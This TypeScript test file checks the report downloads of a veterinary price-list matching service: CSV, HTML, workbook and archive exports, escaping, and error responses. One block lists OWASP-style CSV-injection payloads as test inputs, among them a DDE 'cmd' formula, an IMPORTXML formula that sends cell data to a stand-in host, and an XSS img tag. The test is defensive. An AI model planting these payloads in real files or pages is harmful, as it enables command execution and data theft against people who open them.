import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { generateReport } from '@fetlock/contract/reports';
import { editRow } from '@fetlock/contract/row-edits';
import { readResult, readTotalRevenue } from '@fetlock/contract/results';
import { parseRecord } from '@fetlock/formats/text/parse-record';
import { readPriceList } from '@fetlock/formats/read-price-list';
import { unzip } from '@fetlock/formats/testing/unzip';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type MatchedList, type Matching, givenMatching } from '@fetlock/testing/given-matching';
import { givenLargeResult } from '@fetlock/testing/given-result';
import { type TestApi, startTestApi } from '@fetlock/testing/test-api';
import { writeReportHandler } from './write-report.handler.ts';

let api: TestApi;
let matching: Matching;

const catalogue = `code,name,category,subcategory,variation,variation_name,strength,form,size,gl_code,vendor,vendor_code
1001,Carprofen chewable tablet,drug,NSAID,a,"75 mg, 60 count",75 mg,chewable tablet,60,4100,Chewy,100001
1002,Carprofen injection,drug,NSAID,a,50 mg/mL,50 mg/mL,injection,20 mL,4200,Chewy,100002
2001,Wellness examination,procedure,Exam,a,each,,,,5000,,
`;
const list = `Code,Name,QOH\nC1,carprofen 75mg chew tab 60ct,3\n=S1,"<b>Wellness</b> examination & ""more""",\n`;

beforeAll(async () => {
  api = await startTestApi();
  matching = await givenMatching(api, catalogue);
  await api.services.queue.work(writeReportHandler({ ...api.services, log: pino({ level: 'silent' }) }));
});
afterAll(async () => {
  await api.close();
});

const download = (type: string, resultId: number) =>
  api.as('staff').raw({ method: 'GET', url: `/api/v1${generateReport.path}?type=${type}&resultId=${resultId}` });
function recordsOf(csv: string): Record<string, string>[] {
  const [header = [], ...lines] = csv
    .replace('\uFEFF', '')
    .trimEnd()
    .split('\r\n')
    .map((line) => {
      const record = parseRecord(line, ',');
      return record === 'open' ? [] : record.cells;
    });
  return lines.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index] ?? ''])));
}

const core = async ({ resultId }: MatchedList) => {
  const { body } = await download('core', resultId);
  return recordsOf(body);
};

describe('mapped_core.csv @CALL-042 @REPORT-05 @REPORT-17', () => {
  test('has one row per result row under the name of the report; what a spreadsheet would run is marked', async () => {
    const matched = await matching.match(list);
    const answer = await download('core', matched.resultId);
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-disposition']).toContain('filename="mapped_core.csv"');
    const rows = await core(matched);
    expect(rows).toMatchObject([
      {
        orig_code: 'C1',
        orig_name: 'carprofen 75mg chew tab 60ct',
        fetlock_code: '1001',
        variation: 'a',
        status: 'not_reviewed',
      },
      { orig_code: "'=S1", fetlock_code: '2001' },
    ]);
  });

  test.each([
    [undefined, true],
    [true, true],
    [false, false],
  ])('carries all catalogue columns with fullcore %s: %s @MATCH-24', async (fullcore, expected) => {
    const [row = {}] = await core(await matching.match(list, { context: fullcore === undefined ? {} : { fullcore } }));
    expect(Object.keys(row).some((name) => name.startsWith('catalogue_'))).toBe(expected);
    if (expected) expect(row).toMatchObject({ catalogue_strength: '75 mg', catalogue_gl_code: '4100', catalogue_form: 'chewable tablet' });
  });

  test('shows the entry that a reviewer chose, and the stored quantity on hand @MATCH-27', async () => {
    const matched = await matching.match(list, { context: { dontclearqoh: true } });
    const [row] = matched.rows;
    const body = { fetlock_code_override: '1002', version: row?.version ?? 0 };
    await api.as('staff').call(editRow, { params: { id: matched.resultId, rowId: row?.id ?? 0 }, body });
    expect((await core(matched))[0]).toMatchObject({
      fetlock_code: '1001',
      fetlock_code_override: '1002',
      catalogue_strength: '50 mg/mL',
      quantity_on_hand: '3',
    });
  });

  test('has every row of a large result, in the order of the list', async () => {
    const { id } = await givenLargeResult(api.db, 1_234);
    const { body } = await download('core', id);
    const orders = recordsOf(body).map(({ orig_order }) => Number(orig_order));
    expect(orders).toEqual(Array.from({ length: 1_234 }, (_, index) => index + 1));
  });
});

describe('internal.html @REPORT-02', () => {
  test('shows weights, reasons and its practice, all of it escaped @MATCH-03', async () => {
    const context = { clinic: 'Oak', officialname: 'Oak & Elm "Vets" Ltd' };
    const { resultId } = await matching.match(list, { context });
    const { body, headers } = await download('internal', resultId);
    expect(headers['content-type']).toContain('text/html');
    expect(body).toContain('Oak &#38; Elm &#34;Vets&#34; Ltd');
    expect(body).toContain('&#60;b&#62;Wellness&#60;/b&#62; examination &#38; &#34;more&#34;');
    expect(body).not.toContain('<b>');
    expect(body).toContain('trength, form and pack size agree.');
    expect(body.trimEnd()).toMatch(/<\/html>$/);
  });

  test.each([
    [false, false],
    [true, true],
  ])('lists the rejected candidates with debug %s: %s @MATCH-39', async (debug, expected) => {
    const { resultId } = await matching.match(list, { debug });
    const { body } = await download('internal', resultId);
    expect(body.includes('1002 · Carprofen injection · 50 mg/mL')).toBe(expected);
    expect(/class="rejected"/.test(body)).toBe(expected);
  });
});

test('internal.html counts as reviewed the same rows as the review', async () => {
  const { resultId, rows } = await matching.match(list);
  const shown = async () => /<dt>Reviewed<\/dt><dd>(\d+)/.exec((await download('internal', resultId)).body)?.[1];
  const { reviewed_rows: before } = await api.as('staff').call(readTotalRevenue, { params: { id: resultId } });
  expect(await shown()).toBe(String(before));
  const open = rows.find(({ status }) => status === 'not_reviewed');
  const params = { id: resultId, rowId: open?.id ?? 0 };
  await api.as('staff').call(editRow, { params, body: { reviewed: true, version: open?.version ?? 0 } });
  expect(await shown()).toBe(String(before + 1));
});

describe('input_batch.csv @REPORT-09', () => {
  const batch = async (resultId: number) => recordsOf((await download('inputBatch', resultId)).body);

  test('has each item as the matcher read it: its fields, and what was recognised in its name', async () => {
    const { resultId } = await matching.match(list);
    expect(await batch(resultId)).toMatchObject([
      {
        orig_order: '1',
        file: 'list.csv',
        line: '2',
        orig_code: 'C1',
        orig_name: 'carprofen 75mg chew tab 60ct',
        quantity_on_hand: '3',
        read_words: expect.stringMatching(/carprofen .*chew/),
        unread: expect.any(String),
        read_strength: '75mg',
        read_pack: '60',
        read_species: '',
      },
      { orig_order: '2', line: '3', orig_code: "'=S1" },
    ]);
  });

  test('has what other files contain about an item, in the order of the result', async () => {
    const { resultId, rows } = await matching.match({
      uploads_0: { name: 'list.csv', content: list },
      sales_histories_0: { name: 'sales.csv', content: 'Code,Name,Last sold,Total sold\nC1,carprofen,2026-01-02,12\n' },
    });
    const read = await batch(resultId);
    expect(read.map(({ orig_name }) => orig_name)).toEqual(rows.map(({ orig_name }) => orig_name));
    expect(read[0]).toMatchObject({ total_sold: '12', lastsold: '2026-01-02' });
  });
});

describe('the input files @REPORT-08', () => {
  test('a single one is returned as itself, byte for byte, under its own name', async () => {
    const { resultId } = await matching.match({ uploads_0: { name: 'précios 1.csv', content: list } });
    const answer = await download('input', resultId);
    expect(answer.rawPayload).toEqual(Buffer.from(list));
    expect(answer.headers['content-disposition']).toBe(`attachment; filename="pr_cios 1.csv"; filename*=UTF-8''pr%C3%A9cios%201.csv`);
  });

  test('several are returned in an archive, where none overwrites another', async () => {
    const { resultId } = await matching.match({
      uploads_0: { name: 'list.csv', content: list },
      uploads_1: { name: 'List.csv', content: 'Code,Name\nC2,rabies vaccine\n' },
      sales_histories_0: { name: 'list.csv', content: 'Code,Name,Total sold\nC1,carprofen,2\n' },
    });
    const { headers, rawPayload } = await download('input', resultId);
    expect(headers).toMatchObject({
      'content-type': 'application/zip',
      'content-disposition': expect.stringContaining('filename="input.zip"'),
    });
    expect(await unzip(rawPayload)).toEqual({
      'list.csv': list,
      'List (2).csv': 'Code,Name\nC2,rabies vaccine\n',
      'sales_histories/list.csv': 'Code,Name,Total sold\nC1,carprofen,2\n',
    });
  });
});

describe('chewy_catalog.csv @REPORT-10 @RESULT-23', () => {
  const kinds = async (id: number) => api.as('staff').call(readResult, { params: { id } });

  test('has the rows whose entry has the same Chewy code as the row', async () => {
    const { resultId } = await matching.match(
      'Code,Name,Vendor,Vendor code\nA1,carprofen chew tab 75mg 60ct,CHEWY Pharmacy,10-0001\nA2,carprofen injection,MWI,100002\nA3,wellness exam,,\n100002,carprofen injection,,\n',
    );
    const rows = recordsOf((await download('CHEWY_CATALOG', resultId)).body);
    expect(rows).toMatchObject([
      { chewy_code: '10-0001', fetlock_code: '1001', orig_code: 'A1' },
      { chewy_code: '100002', fetlock_code: '1002', orig_code: '100002' },
    ]);
    expect(await kinds(resultId)).toMatchObject({
      core_report: 'mapped_core.csv',
      match_html: 'match.html',
      internal_html: 'internal.html',
      chewy_catalog: 'chewy_catalog.csv',
    });
    // Like a reviewer who matches them to something else.
    await api.db.updateTable('result_rows').set({ catalogue_variation_id: null }).where('result_id', '=', resultId).execute();
    expect((await kinds(resultId)).chewy_catalog).toBeNull();
  });

  test('is not found, with a reason, when there are none', async () => {
    const { resultId } = await matching.match(list);
    expect((await kinds(resultId)).chewy_catalog).toBeNull();
    const answer = await download('CHEWY_CATALOG', resultId);
    expect([answer.statusCode, answer.json()]).toMatchObject([404, { description: expect.stringContaining('Chewy') }]);
  });
});

describe('what a spreadsheet would run is marked in what people open, and only there @REPORT-03 @REPORT-04 @R-34', () => {
  /** @see OWASP, CSV Injection */
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    '＝1+1',
    '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
  ];
  const hostile = ['Code,Name', ...payloads.map((text, index) => `${index},"${text.replaceAll('"', '""')}"`)].join('\n');
  const namesIn = async (content: Buffer, type: 'common' | 'fetlock', extension: string) => {
    const file = path.join(api.dataFolder, `payloads.${extension}`);
    await writeFile(file, content);
    return (await readPriceList(file, { type })).records.map(({ values, raw }) => values.name ?? new Map(raw).get('orig_name'));
  };

  test.each(['core', 'inputBatch'])('%s: each is shown as text, and is unchanged when it is read again', async (type) => {
    const { resultId } = await matching.match(hostile);
    const { rawPayload } = await download(type, resultId);
    const names = recordsOf(rawPayload.toString()).map(({ orig_name }) => orig_name);
    expect(names).toEqual(payloads.map((text) => `'${text}`));
    expect(await namesIn(rawPayload, 'fetlock', 'csv')).toEqual(payloads);
  });

  test.each(['previousRun', 'previousRunAdvanced'])('%s: the same in a workbook, where no cell is a formula', async (type) => {
    const { resultId } = await matching.match(hostile);
    const { rawPayload } = await download(type, resultId);
    // A column of Fetlock codes shows that the file is one of ours, whatever it is read as.
    expect(await namesIn(rawPayload, 'common', 'xlsx')).toEqual(payloads);
    expect(await namesIn(rawPayload, 'fetlock', 'xlsx')).toEqual(payloads);
    const { 'xl/worksheets/sheet1.xml': sheet } = await unzip(rawPayload);
    expect(sheet).not.toMatch(/<f[ >]/);
  });

  test.each(['match', 'internal'])('%s: a page has no cells to run, and shows each as text', async (type) => {
    const { resultId } = await matching.match(`${hostile}\n9,<img src=x onerror=alert(1)>`);
    const { body } = await download(type, resultId);
    expect(body).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(body).not.toMatch(/<img|<script/i);
  });

  test('the input files keep every byte', async () => {
    const { resultId } = await matching.match(hostile);
    expect((await download('input', resultId)).body).toBe(hostile);
  });
});

test.each([
  ['core', 'text/csv'],
  ['match', 'text/html'],
  ['previousRun', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
])('%s is declared as %s @REPORT-15 @CONST-45', async (type, mimeType) => {
  const { headers } = await download(type, (await matching.match(list)).resultId);
  expect(String(headers['content-type']).split(';')[0]).toBe(mimeType);
});

test('an unknown kind is refused with the choices, and a missing result is not found @REPORT-14', async () => {
  const { resultId } = await matching.match(list);
  const unknown = await download('everything', resultId);
  expect(unknown.statusCode).toBe(400);
  for (const kind of ['core', 'CHEWY_CATALOG', 'match', 'internal', 'previousRun', 'previousRunAdvanced', 'inputBatch', 'input'])
    expect(unknown.body).toContain(kind);
  expect((await download('core', 999_999)).statusCode).toBe(404);
});
